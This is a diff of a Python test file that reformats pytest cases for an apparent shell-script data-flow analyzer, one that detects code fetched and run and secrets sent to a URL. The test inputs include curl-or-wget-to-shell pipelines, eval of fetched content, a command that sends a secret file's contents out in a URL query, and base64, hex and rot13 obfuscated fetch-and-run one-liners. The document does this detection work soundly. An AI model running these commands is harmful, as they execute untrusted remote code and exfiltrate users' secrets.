@@ -22,9 +22,7 @@ def find(analysis: Analysis, kind: Kind) -> list[Fact]:
 
 def flows(text: str, sink: Kind, source: Kind) -> list[tuple[str, str]]:
     """The targets of each sink of a kind and of each source of a kind that flows into it."""
-    return [
-        (fact.target, one.target) for fact in find(read(text), sink) for one in trace(fact) if one.kind is source
-    ]
+    return [(fact.target, one.target) for fact in find(read(text), sink) for one in trace(fact) if one.kind is source]
 
 
 @pytest.mark.parametrize(
@@ -48,12 +46,12 @@ def flows(text: str, sink: Kind, source: Kind) -> list[tuple[str, str]]:
         f'bash -c "$(curl -fsSL {URL})"',
         f"bash <(curl -s {URL})",
         f"source <(curl -s {URL})",
-        f"sh <<< \"$(curl -s {URL})\"",
+        f'sh <<< "$(curl -s {URL})"',
         f"wget -qO- {URL} | sudo -E bash -",
         f"curl {URL} | env FOO=1 nohup sh",
         f"curl {URL} | tee /tmp/log | sh",
         f"curl {URL} | python3 -",
-        f"f() {{ curl -s \"$1\"; }}\nf {URL} | sh",
+        f'f() {{ curl -s "$1"; }}\nf {URL} | sh',
         f"alias get='curl -s'\nget {URL} | sh",
         f"curl -o /tmp/f {URL}; chmod +x /tmp/f; /tmp/f",
         f"curl -o /tmp/f {URL} && mv /tmp/f /tmp/g && cp /tmp/g /tmp/h && /tmp/h",
@@ -75,7 +73,9 @@ def test_what_is_fetched_and_run_is_one_flow(script: str) -> None:
     assert any(URL in source for _, source in runs)
 
 
-@pytest.mark.parametrize("script", [f'eval "$(curl -s {URL})"', f"x=$(curl -s {URL}); eval $x", f"eval `curl -s {URL}`"])
+@pytest.mark.parametrize(
+    "script", [f'eval "$(curl -s {URL})"', f"x=$(curl -s {URL}); eval $x", f"eval `curl -s {URL}`"]
+)
 def test_what_is_fetched_and_evaluated_is_one_flow(script: str) -> None:
     assert flows(script, Kind.EVAL, Kind.FETCH) == [("", URL)]
 
@@ -123,7 +123,7 @@ def test_a_file_that_leaves_is_a_source_of_what_is_sent(script: str) -> None:
 
 
 def test_the_address_keeps_what_is_put_into_it() -> None:
-    (fact,) = find(read(f"curl \"{URL}?k=$(cat {SECRET})\""), Kind.FETCH)
+    (fact,) = find(read(f'curl "{URL}?k=$(cat {SECRET})"'), Kind.FETCH)
     assert fact.target == f"{URL}?k=$(cat {SECRET})"
     assert [one.target for one in trace(fact)] == [SECRET]
 
@@ -157,7 +157,7 @@ def test_a_key_in_a_header_is_a_source_and_does_not_come_back() -> None:
     [
         "echo Y3VybCBodHRwczovL2MuZXhhbXBsZSB8IHNo | base64 -d | sh",
         "base64 -D <<< Y3VybCBodHRwczovL2MuZXhhbXBsZSB8IHNo | bash",
-        "x=Y3VybCBodHRwczovL2MuZXhh; y=bXBsZSB8IHNo; eval \"$(echo $x$y | base64 --decode)\"",
+        'x=Y3VybCBodHRwczovL2MuZXhh; y=bXBsZSB8IHNo; eval "$(echo $x$y | base64 --decode)"',
         "echo 6375726c2068747470733a2f2f632e6578616d706c65207c207368 | xxd -r -p | sh",
         "printf Y3VybCBodHRwczovL2MuZXhhbXBsZSB8IHNo | openssl enc -d -base64 -A | sh",
         "echo 'phey uggcf://p.rknzcyr | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
